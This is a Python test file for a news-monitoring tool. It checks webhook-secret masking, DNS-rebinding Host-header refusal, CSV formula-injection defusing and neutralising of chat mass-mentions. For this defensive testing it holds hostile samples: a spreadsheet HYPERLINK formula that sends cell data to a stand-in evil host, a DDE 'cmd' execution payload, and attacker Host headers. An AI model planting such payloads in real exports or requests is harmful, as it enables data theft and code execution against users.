"""What newswatch writes and serves can't be turned against its user (issue 13, items 6, 7, 10).

- Notification URLs hold secrets in path tokens, ``+header`` values and query
  values. After real deliveries (and failed ones) through `newswatch run`,
  the secret is in neither the database file nor any page `newswatch serve`
  serves, nor the command output: URLs are kept in a masked privacy form.
- `newswatch serve` answers only to its own address (and localhost), so a
  DNS-rebinding page can't read the database through a victim's browser.
- `newswatch export --format csv` defuses cells a spreadsheet would run as a
  formula.
- ``@channel``, ``<!here>``, ``@everyone`` ... in a feed title reach chat as
  text that pings nobody; the template's own text is left as written.

Hostile feeds are served on 127.0.0.1 by tests/hostile_server.py; chat and
mail receivers are newswatch.demo.sinks; every step is the real CLI.
"""

from __future__ import annotations

import csv
import io
import select
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

import hostile_server as hs
import pytest
import sqlite_utils
from apprise import Apprise
from hostile_server import HostileServer

from newswatch.demo.sinks import ChatSink, free_port
from newswatch.notifier import build_channels
from newswatch.notifier.render import BUILTIN_TEMPLATES

try:  # tests/ may or may not be a package
    from .notifier_fixtures import NOW, add_alert, make_db
except ImportError:
    from notifier_fixtures import NOW, add_alert, make_db

TOKEN = "Tok3nZq9SeCrEt"  # the value of $HOOK_TOKEN
ZWSP = "\u200b"

RULES = """
[[rules]]
name = "honduras"
query = 'honduras'
notify = ["team"]
"""


def _config(directory: Path, feed_url: str, notify: str, extra: str = "") -> Path:
    cfg = directory / "newswatch.toml"
    cfg.write_text("\n".join([
        'database = "nw.db"', "[crawl]", "download_delay = 0", "obey_robots = false", "fetch_articles = false",
        "retries = 0", "timeout = 10", "[notify]", notify, "max_attempts = 3", extra,
        f'[[sources]]\nname = "hostile"\nurl = "{feed_url}"\n', RULES,
    ]), encoding="utf-8")
    return cfg


def _feed(server: HostileServer, titles: list[str], summary: str = "A summary about Honduras.",
          author: str | None = None) -> str:
    items = []
    for n, title in enumerate(titles):
        entry = hs.item(server.url, n, title=hs._escape(title), guid=f"g{n}",
                        description=hs._escape(summary))
        if author:
            entry = entry.replace("</item>", f"<author>{hs._escape(author)}</author></item>")
        items.append(entry)
    return server.add("/feed.xml", hs.rss(items).encode())


# -- serving ----------------------------------------------------------------------


class Served:
    """`newswatch serve -c CFG --port 0` in a subprocess; ``.port`` and raw ``.get()``."""

    def __init__(self, cfg: Path, log: Path) -> None:
        self.log = log.open("w")
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "newswatch.cli", "serve", "-c", str(cfg), "--port", "0"],
            stdout=subprocess.PIPE, stderr=self.log, text=True,
        )
        deadline = time.monotonic() + 60
        url = None
        while url is None and time.monotonic() < deadline:
            ready, _, _ = select.select([self.proc.stdout], [], [], max(0.0, deadline - time.monotonic()))
            line = self.proc.stdout.readline() if ready else ""
            if not line:
                break
            url = next((w for w in line.split() if w.startswith("http://")), None)
        if url is None:
            self.stop()
            raise AssertionError(f"newswatch serve printed no URL:\n{log.read_text(errors='replace')}")
        self.url = url
        self.port = urlsplit(url).port

    def get(self, path: str, host: str | None = None) -> tuple[int, bytes]:
        """A raw HTTP/1.1 GET on 127.0.0.1 carrying ``Host: host`` (default: 127.0.0.1:PORT)."""
        host = host or f"127.0.0.1:{self.port}"
        with socket.create_connection(("127.0.0.1", self.port), timeout=30) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            chunks = []
            while chunk := sock.recv(65536):
                chunks.append(chunk)
        raw = b"".join(chunks)
        head, _, body = raw.partition(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1])
        if b"transfer-encoding: chunked" in head.lower():
            body = _dechunk(body)
        return status, body

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(timeout=15)
        self.log.close()


def _dechunk(body: bytes) -> bytes:
    out, rest = [], body
    while rest:
        size_line, _, rest = rest.partition(b"\r\n")
        size = int(size_line.split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out.append(rest[:size])
        rest = rest[size + 2:]
    return b"".join(out)


# -- item 6: webhook secrets --------------------------------------------------------


def _secret_urls(good: ChatSink, failing: ChatSink, down: int) -> list[str]:
    """Apprise URLs carrying ${HOOK_TOKEN} as a path token, a +header and a query value."""
    t = "${HOOK_TOKEN}"
    return [
        f"json://127.0.0.1:{good.port}/hooks/{t}?+X-Api-Key={t}",
        f"form://127.0.0.1:{good.port}/form/{t}?+X-Api-Key={t}&:extra={t}",
        f"xml://127.0.0.1:{good.port}/xml/{t}?+Authorization=Bearer%20{t}",
        f"mmost://127.0.0.1:{good.port}/{t}",
        # These fail: the receiver answers 500, nothing listens on port `down`.
        f"json://127.0.0.1:{failing.port}/hooks/{t}?+X-Api-Key={t}&-key={t}",
        f"json://127.0.0.1:{down}/down/{t}?-key={t}",  # requests echoes the path and query
        f"mailtos://newswatch:{t}@127.0.0.1:{down}?to=desk@example.org&from=nw@example.org&+X-Api={t}",
    ]


@pytest.fixture(scope="module")
def delivered(tmp_path_factory):
    """One `newswatch run` delivering an alert to 4 working and 3 failing secret URLs, then served."""
    from conftest import run_cli

    tmp = tmp_path_factory.mktemp("secrets")
    with HostileServer() as server, ChatSink() as good, ChatSink(fail_with=500) as failing:
        feed = _feed(server, ["Aid to Honduras resumes"])
        urls = ", ".join(f'"{u}"' for u in _secret_urls(good, failing, free_port()))
        cfg = _config(tmp, feed, f"urls = {{ team = [{urls}] }}")
        env = {"HOOK_TOKEN": TOKEN}
        run = run_cli("run", "-c", str(cfg), env=env)
        good.wait_for(4, timeout=10)
        posts = good.posts
        status = run_cli("status", "-c", str(cfg), env=env)
        listing = run_cli("alerts", "list", "-c", str(cfg), env=env)
        check = run_cli("check", "-c", str(cfg), env=env)
    served = Served(cfg, tmp / "serve.log")
    try:
        yield {"tmp": tmp, "run": run, "posts": posts, "served": served,
               "shown": [run, status, listing, check]}
    finally:
        served.stop()


def test_the_secret_was_really_used_to_deliver(delivered):
    """Control: the token reached the receivers, so its absence elsewhere means something."""
    posts = delivered["posts"]
    assert sorted(p.path for p in posts) == sorted(
        [f"/hooks/{TOKEN}", f"/form/{TOKEN}", f"/xml/{TOKEN}", f"/hooks/{TOKEN}"])
    assert any(p.headers.get("X-Api-Key") == TOKEN for p in posts)
    db = sqlite_utils.Database(delivered["tmp"] / "nw.db")
    assert db["deliveries"].count == 4
    [alert] = db["alerts"].rows
    assert alert["status"] == "failed"
    assert "500" in alert["last_error"] and "Connection refused" in alert["last_error"]
    assert "Max retries exceeded with url: /****/****?" in alert["last_error"]  # requests' text, masked


def test_no_secret_in_the_database_file_or_command_output(delivered):
    tmp = delivered["tmp"]
    for name in ("nw.db", "nw.db-wal"):
        path = tmp / name
        if path.exists():
            data = path.read_bytes()
            assert TOKEN.encode() not in data, f"{name} holds the webhook secret"
            assert TOKEN.encode("utf-16-le") not in data
    for result in delivered["shown"]:
        assert TOKEN not in result.stdout + result.stderr, result.args
    db = sqlite_utils.Database(tmp / "nw.db")
    targets = sorted(r["target"] for r in db["deliveries"].rows)
    # The privacy form still says which URL it was: scheme, host and port.
    assert [t.split("/")[0] for t in targets] == ["form:", "json:", "mmost:", "xml:"]
    assert all("127.0.0.1:" in t for t in targets)


def test_no_secret_in_any_page_newswatch_serve_serves(delivered):
    served = delivered["served"]
    pages = ["/nw/deliveries.json", "/nw/deliveries", "/nw/alerts.json?_shape=array", "/nw/alerts",
             "/nw/digests.json", "/nw/runs.json", "/nw/fetches.json", "/nw/sources.json",
             "/-/metadata.json"]
    seen_targets = False
    for page in pages:
        status, body = served.get(page)
        assert status == 200, (page, body[:300])
        assert TOKEN.encode() not in body, f"{page} shows the webhook secret"
        seen_targets |= b"127.0.0.1" in body and page.startswith("/nw/deliveries")
    assert seen_targets  # the deliveries are there, only masked


def test_privacy_form_masks_path_tokens_headers_and_query_values_for_every_scheme():
    """json, form, xml, mmost, slack and mailtos URLs: no secret in what is stored or shown."""
    t = TOKEN
    urls = {
        "json": f"json://127.0.0.1:9/hooks/{t}?+X-Api-Key={t}&-key={t}&:field={t}",
        "form": f"form://user:{t}@127.0.0.1:9/{t}?+X-Api-Key={t}&:field={t}",
        "xml": f"xmls://127.0.0.1:9/a/{t}/b?+Authorization=Bearer%20{t}",
        "mmost": f"mmost://127.0.0.1:9/{t}?channel=news&+X-Api-Key={t}",
        "slack": f"slack://{t}/{t}/{t}/#news",
        "slackbot": f"slack://xoxb-1234-1234-{t}/#news",
        "mailtos": f"mailtos://me:{t}@example.org?to=a@example.org&smtp=smtp.example.org&+X-Api={t}&pass={t}",
    }
    channels = build_channels({name: [url] for name, url in urls.items()}, None)
    assert channels.validate() == []
    assert len(channels.services) == len(urls)
    for service in channels.services:
        shown = [service.target, service.safe_url, *channels.describe()[next(iter(service.tags))]]
        for text in shown:
            assert t not in text and t[1:-1] not in text, text
        assert "****" in service.target or "..." in service.target
    json_target = channels.services_for("json")[0].target
    # Apprise's own settings stay readable; the scheme, host and port say which URL it is.
    assert json_target.startswith("json://127.0.0.1:9/") and "method=POST" in json_target


def test_secrets_an_older_version_stored_are_masked_on_the_next_send(tmp_path, cli):
    """A database written before the fix holds the token; `alerts send` rewrites it, sending nothing twice."""
    with ChatSink() as had_it, ChatSink() as failed:
        t = "${HOOK_TOKEN}"
        urls = [f"json://127.0.0.1:{had_it.port}/hooks/{t}?+X-Api-Key={t}", f"json://127.0.0.1:{failed.port}/b/{t}"]
        real = [u.replace(t, TOKEN) for u in urls]
        db = make_db(tmp_path / "nw.db")
        alert_id = add_alert(db, tag="team", status="failed", rule="honduras")
        old_names = [Apprise.instantiate(u).url(privacy=True) for u in real]
        assert TOKEN in old_names[0]  # what the deliveries table used to hold
        db["alerts"].update(alert_id, {"attempts": 1, "last_error": f"JSON {old_names[1].split('?')[0]}: "
                                       f"Max retries exceeded with url: /b/{TOKEN}"})
        db["deliveries"].insert({"kind": "alert", "message_id": alert_id, "target": old_names[0],
                                 "delivered_at": NOW})
        db.close()
        cfg = _config(tmp_path, "http://127.0.0.1:9/feed.xml", "urls = { team = [%s] }" % ", ".join(
            f'"{u}"' for u in urls))
        send = cli("alerts", "send", "-c", str(cfg), "--now", "2026-11-28T08:00:00Z", env={"HOOK_TOKEN": TOKEN})
        assert send.returncode == 0, send.stdout + send.stderr
        assert failed.wait_for(1)
        assert had_it.posts == [] and len(failed.posts) == 1  # the URL that had it is not sent it again
    db = sqlite_utils.Database(tmp_path / "nw.db")
    assert db["alerts"].get(alert_id)["status"] == "sent"
    targets = [r["target"] for r in db["deliveries"].rows]
    assert len(targets) == 2 and all(x.startswith("json://127.0.0.1:") for x in targets)
    assert TOKEN not in repr(targets) + repr(list(db["alerts"].rows))
    db.close()
    for name in ("nw.db", "nw.db-wal"):
        if (tmp_path / name).exists():
            assert TOKEN.encode() not in (tmp_path / name).read_bytes(), name


# -- item 6: DNS rebinding ------------------------------------------------------------


def test_serve_refuses_a_foreign_host_header(delivered):
    served = delivered["served"]
    port = served.port
    for host in (f"rebind.attacker.example:{port}", "rebind.attacker.example", f"127.0.0.1.nip.io:{port}",
                 f"localhost.attacker.example:{port}"):
        status, body = served.get("/nw/deliveries.json", host=host)
        assert status in (400, 421), (host, status)
        text = body.decode()
        assert "Host" in text and f"127.0.0.1:{port}" in text
        assert b"deliveries" not in body
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}"):
        status, body = served.get("/nw/deliveries.json", host=host)
        assert status == 200, (host, body[:300])
    # A real browser-like client, through urllib, still works.
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/nw/runs.json", timeout=30) as response:
        assert response.status == 200


# -- item 7: CSV formula injection --------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Honduras")', "+1+2 Honduras", "-2+3 Honduras",
            "@SUM(1+1) Honduras"]


def test_csv_export_defuses_spreadsheet_formulas(tmp_path, cli):
    with HostileServer() as server:
        feed = _feed(server, [*FORMULAS, "Plain Honduras story"], summary="=1+1 and Honduras",
                     author="=cmd|' /C calc'!A0")
        cfg = _config(tmp_path, feed, "")
        run = cli("run", "-c", str(cfg), "--no-alerts")
    assert run.returncode == 0, run.stdout + run.stderr
    out = tmp_path / "items.csv"
    export = cli("export", "-c", str(cfg), "--format", "csv", "-o", str(out))
    assert export.returncode == 0, export.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted(["'" + f for f in FORMULAS] + ["Plain Honduras story"])
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert {r["summary"] for r in rows} == {"'=1+1 and Honduras"}
    assert {r["author"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    # JSON lines are data for programs, not spreadsheets: left as stored.
    jsonl = cli("export", "-c", str(cfg), "--format", "jsonl")
    assert '"title": "=HYPERLINK(' in jsonl.stdout


# -- item 10: mentions in chat ----------------------------------------------------------------

HOSTILE_TITLE = "@channel @all @here @everyone <!channel> <!here> <!everyone> <@U024BE7LH> Honduras"


def test_mentions_in_a_feed_title_ping_nobody_in_chat(tmp_path, cli):
    templates = tmp_path / "templates"
    templates.mkdir()
    # The user's own template may ping on purpose: its text is left as written.
    (templates / "alert.md").write_text((BUILTIN_TEMPLATES / "alert.md").read_text(encoding="utf-8")
                                        + "\nPing: @here please read\n", encoding="utf-8")
    with HostileServer() as server, ChatSink() as chat:
        # Escaped twice, like markup meant as text: the stored title holds "<!channel>" literally.
        feed = _feed(server, [hs._escape(HOSTILE_TITLE)],
                     summary=hs._escape("Mentions @channel and <!here> in the summary too, Honduras"))
        cfg = _config(tmp_path, feed, f'urls = {{ team = ["{chat.mmost_url()}"] }}\ntemplates = "templates"')
        run = cli("run", "-c", str(cfg))
        assert run.returncode == 0, run.stdout + run.stderr
        assert chat.wait_for(1)
        [post] = chat.posts
    db = sqlite_utils.Database(tmp_path / "nw.db")
    assert [r["title"] for r in db["items"].rows] == [HOSTILE_TITLE]  # stored as the feed had it
    text = post.body["text"]
    feed_part, own = text.rsplit("Ping:", 1)
    assert own.strip() == "@here please read"  # the template's own mention
    for mention in ("@channel", "@all", "@here", "@everyone", "<!channel>", "<!here>", "<!everyone>",
                    "!channel", "!here", "@U024BE7LH"):
        assert mention not in feed_part, (mention, feed_part)
    for shown in ("@" + ZWSP + "channel", "@" + ZWSP + "everyone", "!" + ZWSP + "here", "@" + ZWSP + "U024BE7LH"):
        assert shown in feed_part
    assert "Honduras" in feed_part and "Rule `honduras`" in feed_part
